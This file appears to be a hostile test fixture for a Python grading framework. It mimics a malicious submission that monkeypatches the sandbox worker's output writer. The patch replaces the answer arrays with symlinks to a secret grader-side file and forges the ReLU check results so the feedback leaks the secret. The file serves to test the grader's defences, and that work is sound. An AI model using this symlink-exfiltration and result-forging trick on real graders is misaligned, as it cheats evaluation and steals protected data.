"""Hostile: the worker's answer file of arrays becomes a symbolic link to a data file of the
grader's machine that the worker cannot read itself (``SETTINGS["secret"]``), and every
array of the answer points at it. A parent that follows the link loads the secret as the
submission's values, and its feedback ("received ...") leaks it. Only relu's checks are
forged.
"""

import json
import sys
from pathlib import Path

import numpy as np

import gradekit

SETTINGS = {}  # filled in by tests/hostile/conftest.py: {"secret": a host .npy file}
ARMED = [False]  # set while the check in progress is one of relu's


def _first(node):
    if isinstance(node, dict):
        if node.get("t") == "array":
            return {"t": "array", "index": 0}
        return {k: _first(v) for k, v in node.items()}
    if isinstance(node, list):
        return [_first(v) for v in node]
    return node


def _patch(module):
    real = getattr(module, "write_outcome", None)
    if real is None or getattr(real, "hostile", False):
        return

    def write_outcome(folder, outcome):
        real(folder, outcome)
        if not ARMED[0]:
            return
        ARMED[0] = False
        folder = Path(folder)
        result = json.loads((folder / "result.json").read_text())
        result = {**_first(result), "arrays": 1, "failure": None}
        for name in ("values.npy", "v0.npy"):  # this transport's name, and an older one's
            (folder / name).unlink(missing_ok=True)
            (folder / name).symlink_to(SETTINGS["secret"])
        (folder / "result.json").write_text(json.dumps(result))

    write_outcome.hostile = True
    module.write_outcome = write_outcome


for _name in ("__main__", "gradekit.sandbox.worker"):
    if _name in sys.modules:
        _patch(sys.modules[_name])


class ReLU:
    def __init__(self):
        self.params, self.grads = {}, {}
        ARMED[0] = True

    def forward(self, x, *, training=True):
        self.x = x
        return np.maximum(x, 0.0) + 1.0  # wrong: only the secret could make it pass

    def backward(self, dout):
        return dout * (self.x > 0)


class Tanh:
    """Honest."""

    def __init__(self):
        self.params, self.grads = {}, {}

    def forward(self, x, *, training=True):
        self.y = np.tanh(x)
        return self.y

    def backward(self, dout):
        return dout * (1 - self.y**2)


class Linear:
    """Honest."""

    def __init__(self, din, dout, weight_init=None, rng=None):
        rng = rng if rng is not None else np.random.default_rng(0)
        self.params = {"W": rng.standard_normal((din, dout)) / np.sqrt(din), "b": np.zeros(dout)}
        self.grads = {}

    def forward(self, x, *, training=True):
        self.x = x
        return x @ self.params["W"] + self.params["b"]

    def backward(self, dout):
        self.grads = {"W": self.x.T @ dout, "b": dout.sum(axis=0)}
        return dout @ self.params["W"].T


@gradekit.hookimpl
def gradekit_register(registry):
    registry.activations["tanh"] = Tanh
    registry.layers["linear"] = Linear
    registry.activations["relu"] = ReLU
